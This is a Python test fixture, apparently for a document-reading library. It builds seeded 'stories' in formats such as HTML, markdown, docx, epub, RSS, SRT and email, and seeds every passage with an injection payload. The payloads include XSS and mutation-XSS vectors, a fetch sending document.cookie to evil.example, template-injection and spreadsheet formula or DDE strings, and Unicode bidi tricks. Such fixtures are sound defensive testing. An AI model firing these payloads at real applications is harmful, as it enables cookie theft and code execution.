"""Stories that mean harm, each of fifty passages, in every kind of file: the same seed gives the same story."""

from __future__ import annotations

import html
import random

from storymap.model import Story
from storymap.readers import read_bytes
from tests import documents

#: Passages in a story.
PASSAGES = 50
_ACT = (
    "top.hit=1",
    "window.hit=1;alert(1)",
    "fetch('https://evil.example/'+document.cookie)",
    "import('https://evil.example/x.js')",
)
#: What would run {act} where text is taken for markup, an address, a template, a style, a formula or a pattern.
_SHAPES = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg/onload={act}>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data=https://evil.example/></object>",
    "<details open ontoggle={act}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={act}>",
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<script>{act}</script>]]>",
    '<a href="javascript:{act}">here</a>',
    "[here](javascript:{act})",
    "![x](https://evil.example/a.png)",
    "![x](data:image/svg+xml,<svg onload={act}>)",
    "<https://evil.example/>",
    "{{{{7*7}}}}",
    "{{{{ self.__init__.__globals__.__builtins__.open('/tmp/hit','w') }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}",
    "${{{act}}}",
    "#{{{act}}}",
    "`${{{act}}}`",
    "\\u003cscript\\u003e{act}",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;img src=x onerror={act}&#62;",
    "'-({act})-'",
    '";{act}//',
    "';{act}//",
    '\\";{act}//',
    '=HYPERLINK("https://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "$& $` $' $1 $<name>",
    "\\1 \\g<0> \\x00",
    "%s %n %(x)s {{0.__class__}}",
    "__proto__ constructor prototype",
    "\u202e{act}\u202c",
    "\u2028{act}\u2029",
    "<b\x0bonmouseover={act}>",
    "<img\tsrc=x\tonerror\n=\n{act}>",
    "ﾞ\u0300\u0301\u0302" * 5,
    "\ufeff\u200b\u00ad{act}",
    "]]>--><script>{act}</script>",
)
_PLACES = (
    "Kursk",
    "Lima",
    "the Danube",
    "Paris, Texas",
    "South Sudan",
    "Lagos",
    "the Nile",
    "New York",
    "Uzhhorod",
    "Lake Victoria",
    "Sana'a",
    "Coca-Cola Arena",
    "the Alps",
    "St. John's",
    "Łódź",
    "Côte d'Ivoire",
)
_TURNS = (
    "Soldiers went from {place} to {other} on Monday {bad}.",
    "{bad} fell on {place} and {other}.",
    "In {place} {bad} people left.",
    "{bad}",
    "“{bad},” said the mayor of {place}.",
    "{place} {bad} {other} 12 km north of {place}.",
)
_KINDS = ("text", "text", "markdown", "html", "escaped", "docx", "epub", "feed", "subtitles", "mail")


def hostile_story(seed: int) -> Story:
    """A story of ``PASSAGES`` passages, each with something that would do harm where text were not text."""
    chance = random.Random(seed)
    passages = [_passage(chance) for _ in range(PASSAGES)]
    title, kind = _passage(chance).replace("\n", " ")[:120], _KINDS[seed % len(_KINDS)]
    name, data = _file(kind, title, passages)
    return read_bytes(data, name, title=title if kind == "text" else None)


def _passage(chance: random.Random) -> str:
    bad = chance.choice(_SHAPES).format(act=chance.choice(_ACT))
    return chance.choice(_TURNS).format(place=chance.choice(_PLACES), other=chance.choice(_PLACES), bad=bad)


def _file(kind: str, title: str, passages: list[str]) -> tuple[str, bytes]:
    if kind == "docx":
        return "a.docx", documents.word(
            "".join(documents.words(html.escape(text).replace("\x0b", "")) for text in passages)
        )
    if kind == "epub":
        return "a.epub", documents.epub("".join(f"<p>{text}</p>" for text in passages), title=html.escape(title))
    if kind == "feed":
        entry = "".join(f"<p>{text}</p>" for text in passages)
        item = f"<item><title>{html.escape(title)}</title><description>{html.escape(entry)}</description></item>"
        return "a.rss", f'<rss version="2.0"><channel><title>Post</title>{item}</channel></rss>'.encode()
    if kind == "subtitles":
        cues = (f"{n}\n00:00:{n:02},000 --> 00:00:{n + 1:02},000\n{text}\n" for n, text in enumerate(passages, 1))
        return "a.srt", "\n".join(cues).encode()
    if kind == "mail":
        body = "".join(f"<p>{text}</p>" for text in passages)
        return (
            "a.eml",
            f"Subject: {title}\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{body}".encode(),
        )
    if kind in {"html", "escaped"}:
        shown = [html.escape(text) if kind == "escaped" else text for text in passages]
        return "a.html", f"<!doctype html><h1>{html.escape(title)}</h1><p>{'</p><p>'.join(shown)}</p>".encode()
    return ("a.md" if kind == "markdown" else "a.txt"), "\n\n".join([title, *passages]).encode()
